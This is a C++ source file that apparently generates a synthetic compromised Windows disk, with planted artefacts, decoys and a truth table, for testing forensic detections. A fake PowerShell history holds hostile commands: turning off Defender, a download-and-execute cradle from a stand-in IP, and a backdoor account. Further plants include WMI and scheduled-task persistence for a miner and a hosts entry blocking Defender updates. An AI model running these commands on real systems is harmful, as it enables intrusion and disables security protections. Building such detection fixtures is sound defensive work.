#include "tests/support/prefetch_writer.h"
#include "tests/support/wmi_writer.h"
#include "tools/demo/scheduled_task.h"
#include "tools/demo/state.h"
#include "xiezhi/base/bytes.h"

namespace xiezhi::demo {
namespace {

using testing::HiveKey;
using testing::key_at;

void add_task(Disk& disk, HiveKey& software, const ScheduledTask& task, FileTime written) {
    HiveKey& tree = key_at(software, std::string(kTaskCache) + "Tree" + task.path);
    tree.values = tree_values(task);
    tree.written = written;
    HiveKey& key = key_at(software, std::string(kTaskCache) + R"(Tasks\)" + task.id);
    key.values = task_values(task);
    key.written = written;
    disk.add("C/" + task_file_path(task), task_file(task));
}

void add_prefetch(Disk& disk, const std::string& program, const std::string& folder,
                  std::uint32_t hash, const std::vector<FileTime>& runs) {
    const HostFile file = prefetch(program, folder, hash, runs, "");
    disk.add("C/" + file.path, file.bytes);
}

void add_repository(Disk& disk) {
    const std::string folder = "C/Windows/System32/wbem/Repository/";
    const testing::WmiFiles files = testing::wmi_with_subscription(
        false, {.filter = "WinUpdateTimer",
                .command = std::string(R"(cmd.exe /c start "" )") + kMinerCopy,
                .written = night(2, 11).ticks,
                .rests = false});
    disk.add(folder + "OBJECTS.DATA", std::string(as_text(files.objects)));
    disk.add(folder + "INDEX.BTR", std::string(as_text(files.index)));
    disk.add(folder + "MAPPING1.MAP", std::string(as_text(files.mapping)));
    disk.planted("wmi.subscription", "Repository", kMinerCopy);
}

}  // namespace

HostFile prefetch(const std::string& program, const std::string& folder, std::uint32_t hash,
                  const std::vector<FileTime>& runs, const std::string& loaded) {
    constexpr const char* kVolume = R"(\DEVICE\HARDDISKVOLUME1)";
    testing::PrefetchContent content;
    content.executable = program;
    content.hash = hash;
    content.run_count = static_cast<std::uint32_t>(runs.size());
    content.run_times.clear();
    for (auto run = runs.rbegin(); run != runs.rend(); ++run)
        content.run_times.push_back(run->ticks);
    content.files = {std::string(kVolume) + R"(\WINDOWS\SYSTEM32\NTDLL.DLL)",
                     kVolume + folder + program};
    if (!loaded.empty()) content.files.push_back(kVolume + loaded);
    static constexpr std::string_view kDigits = "0123456789ABCDEF";
    std::string name = "Windows/Prefetch/" + program + "-";
    for (int shift = 28; shift >= 0; shift -= 4) name += kDigits[(hash >> shift) & 0xfU];
    return {name + ".pf", testing::mam_file(testing::prefetch_file(content))};
}

void write_tasks(Disk& disk, HiveKey& software) {
    constexpr const char* kEveryHalfHour =
        "<TimeTrigger><StartBoundary>2026-03-12T02:30:00</StartBoundary><Repetition>"
        "<Interval>PT30M</Interval></Repetition></TimeTrigger>";
    constexpr const char* kNightly =
        "<CalendarTrigger><StartBoundary>2024-01-01T23:00:00</StartBoundary>"
        "<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>";
    add_task(disk, software,
             {R"(\WinUpdateCheck)", "{6B2F8A10-5A3C-4D0E-9A51-2F60C17D3101}",
              R"(SZ-ERP-SRV01\administrator)", kEveryHalfHour, kMinerCopy, ""},
             night(2, 9));
    add_task(disk, software,
             {R"(\Acme Backup Nightly)", "{6B2F8A10-5A3C-4D0E-9A51-2F60C17D3102}", "Acme Software",
              kNightly, R"("C:\Program Files\Acme Backup\agent.exe")", "--nightly"},
             long_ago());
    add_task(
        disk, software,
        {R"(\Microsoft\Windows\Defrag\ScheduledDefrag)", "{6B2F8A10-5A3C-4D0E-9A51-2F60C17D3103}",
         "Microsoft Corporation", kNightly, R"(%windir%\system32\defrag.exe)", "-c -h -o"},
        long_ago());
    disk.planted("task.action", "Tasks/WinUpdateCheck", kMinerCopy);
    disk.decoy("Tasks/Acme Backup Nightly", "agent.exe");
    disk.decoy("Defrag/ScheduledDefrag", "defrag.exe");
}

void write_files(Disk& disk) {
    add_prefetch(disk, "SVCHOSTS.EXE", R"(\WINDOWS\TEMP\)", 0x5b2e0c11,
                 {night(2, 5), night(2, 30), night(3, 0)});
    disk.planted("process.name.lookalike", "SVCHOSTS.EXE-5B2E0C11.pf", "SVCHOSTS.EXE");
    add_prefetch(disk, "T.EXE", R"(\USERS\PUBLIC\)", 0x3d10f7c4, {night(1, 52)});
    disk.planted("process.path.hideout", "T.EXE-3D10F7C4.pf", "T.EXE");
    add_prefetch(disk, "SVCHOST.EXE", R"(\WINDOWS\SYSTEM32\)", 0x0a4c8812, {night(0, 2)});
    add_prefetch(disk, "AGENT.EXE", R"(\PROGRAM FILES\ACME BACKUP\)", 0x77f01a3e, {night(0, 1)});
    disk.decoy("SVCHOST.EXE-0A4C8812.pf", "SVCHOST.EXE");
    disk.decoy("AGENT.EXE-77F01A3E.pf", "AGENT.EXE");
    disk.add("C/Windows/System32/drivers/etc/hosts",
             "# Copyright (c) 1993-2009 Microsoft Corp.\r\n127.0.0.1 localhost\r\n"
             "10.20.0.16 erp-db.acme.example\r\n"
             "0.0.0.0 definitionupdates.microsoft.com\r\n");
    disk.planted("network.hosts-file", "etc/hosts", "definitionupdates.microsoft.com");
    disk.decoy("etc/hosts", "erp-db.acme.example");
    const std::string history =
        "/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";
    disk.add("C/Users/Administrator" + history,
             "Set-MpPreference -DisableRealtimeMonitoring $true\r\n"
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\r\n"
             "net user admin$ P@ss1020 /add\r\n");
    disk.planted("powershell.cmd.download", "Administrator", "198.51.100.23/a.ps1");
    disk.add("C/Users/erpadmin" + history,
             "Get-Service MSSQLSERVER\r\nGet-EventLog -LogName System -Newest 20\r\n"
             "Test-NetConnection 10.20.0.16 -Port 1433\r\n");
    disk.decoy("erpadmin", "Get-Service MSSQLSERVER");
    disk.add(
        "C/Users/Administrator/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/"
        "Startup/desktop.ini",
        "[.ShellClassInfo]\r\n");
    disk.decoy("Startup/desktop.ini", "desktop.ini");
    add_repository(disk);
}

FileTime night(std::uint32_t hour, std::uint32_t minute) {
    constexpr std::uint32_t kDayOfIntrusion = 3;
    return Host::local(kDayOfIntrusion, hour, minute);
}

FileTime long_ago() {
    return {132'844'032'000'000'000};  // 21 December 2021, when the server was set up
}

Disk tell_disk() {
    Disk disk;
    write_system(disk);
    write_software(disk);
    write_accounts(disk);
    write_files(disk);
    return disk;
}

std::string truth_table(const Disk& disk) {
    std::string out = "check\trole\tartefact\ttext\n";
    for (const TruthRow& row : disk.truth()) {
        out += row.check + '\t' + row.role + '\t' + row.artefact + '\t' + row.text + '\n';
    }
    return out;
}

}  // namespace xiezhi::demo
